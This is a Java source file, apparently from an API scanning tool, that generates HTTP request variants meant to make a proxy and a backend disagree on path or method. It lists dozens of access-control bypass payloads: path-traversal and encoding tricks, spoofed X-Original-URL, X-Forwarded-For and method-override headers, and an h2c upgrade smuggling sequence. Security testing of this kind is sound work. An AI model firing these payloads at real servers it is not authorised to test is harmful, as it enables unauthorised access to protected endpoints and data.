package io.postrider.ingest.api;

import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/** Ways to write a request so that one part of a server may see another path, or another method, than the next one. */
public final class Spellings {
    private Spellings() {}

    /**
     * @param line the request line without its version
     * @param version of HTTP
     * @param fields further header fields, each with its CRLF
     */
    public record Spelling(String line, String version, String fields) {
        /** Whether the target has none of the forms of RFC 9112, 3.2, so that no path can be matched. */
        public boolean isNoTarget() {
            String target = line.substring(line.indexOf(' ') + 1);
            return !target.startsWith("/") && !target.startsWith("http:");
        }
    }

    public static List<Spelling> of(String method, String path) {
        List<Spelling> spellings = new ArrayList<>();
        paths(path).forEach(spelled -> spellings.add(new Spelling(method + " " + spelled, "HTTP/1.1", "")));
        for (String field : List.of(
                "X-Original-URL: /openapi.yaml",
                "X-Rewrite-URL: /",
                "X-Forwarded-Path: /openapi.yaml",
                "X-Forwarded-Prefix: /openapi.yaml",
                "X-Forwarded-Uri: /openapi.yaml",
                "X-HTTP-Method-Override: GET",
                "X-HTTP-Method: HEAD",
                "X-Method-Override: GET",
                "Forwarded: for=127.0.0.1",
                "X-Forwarded-For: 127.0.0.1",
                "X-Real-IP: 127.0.0.1",
                "Cookie: Authorization=Bearer",
                "Origin: http://localhost\r\nAccess-Control-Request-Method: GET",
                "Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: x3JJHMbDL1EzLkh9GBhXDw==",
                "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__")) {
            spellings.add(new Spelling(method + " " + path, "HTTP/1.1", field + "\r\n"));
        }
        spellings.add(new Spelling(method + " " + path, "HTTP/1.0", ""));
        for (String other : List.of("HEAD", "OPTIONS", "TRACE", "PATCH", method.toLowerCase(Locale.ROOT), "ANY", "_")) {
            if (!other.equals(method)) {
                spellings.add(new Spelling(other + " " + path, "HTTP/1.1", ""));
            }
        }
        return spellings;
    }

    private static List<String> paths(String path) {
        String tail = path.substring(1);
        String first = Integer.toHexString(path.length() > 1 ? path.charAt(1) : '.');
        String encoded = path.length() > 1 ? "/%" + first + path.substring(2) : "/%2e";
        return List.of(
                path,
                "/" + path,
                "//" + path,
                path.replace("/", "//"),
                "/." + path,
                path.replace("/", "/./"),
                "/x/.." + path,
                "/v1/.." + path,
                "/.." + path,
                "/%2e" + path,
                "/%2e%2e" + path,
                "/x/%2e%2e" + path,
                "/x/%2E." + path,
                "/x%2f.." + path,
                encoded,
                encoded.replace("%", "%25"),
                "/" + allEncoded(tail),
                "/" + allEncoded(tail).replace("%2f", "/"),
                ";a" + path,
                "/;a" + path,
                "/;" + tail,
                path.replaceAll("(?<=[^/])(?=/|$)", ";a"),
                path.replaceAll("(?<=[^/])(?=/|$)", ";a=b"),
                path.replaceFirst("(?<=[^/])(?=/|$)", ";/openapi.yaml"),
                path + ";a=b;c=d",
                path + ";/../openapi.yaml",
                path + "%3ba",
                "/x;a/.." + path,
                "/x/..;a" + path,
                path + "/",
                path + "//",
                path + "/.",
                path + "/x/..",
                path + "/%2e",
                path + ".json",
                path.toUpperCase(Locale.ROOT),
                "/" + tail.replace("/", "%2F"),
                "/%2F" + tail,
                "\\" + tail,
                "/" + tail.replace("/", "\\"),
                "/x/..\\" + tail,
                "/" + tail.replace("/", "%5c"),
                "http://localhost" + path,
                "http://other.example/" + path,
                "http://localhost:0@other.example" + path,
                "//other.example" + path,
                tail.isEmpty() ? "x" : tail,
                path + "%00",
                "/%00" + path,
                path + "%20",
                path + "%09",
                path + "%0d%0a",
                "/%252e%252e" + path,
                "/x/%252e%252e" + path,
                "/%c0%af" + tail,
                "/x/%c0%ae%c0%ae" + path,
                "/%ef%bc%8f" + tail,
                "/%u002f" + tail,
                "/%zz" + path,
                path + "#fragment",
                path + "#/../openapi.yaml",
                path + "?",
                path + "?x=/openapi.yaml",
                path + "?/../openapi.yaml",
                path + "?api_key=%1$s&access_token=%1$s&Authorization=Bearer%%20%1$s".formatted(Neighbours.API_KEY),
                "/openapi.yaml/.." + path,
                "/openapi.yaml;/.." + path,
                "/openapi.yaml/%2e%2e" + path,
                "/openapi.yaml%2f.." + path);
    }

    private static String allEncoded(String text) {
        StringBuilder encoded = new StringBuilder();
        text.chars().forEach(c -> encoded.append("%%%02x".formatted(c)));
        return encoded.toString();
    }
}
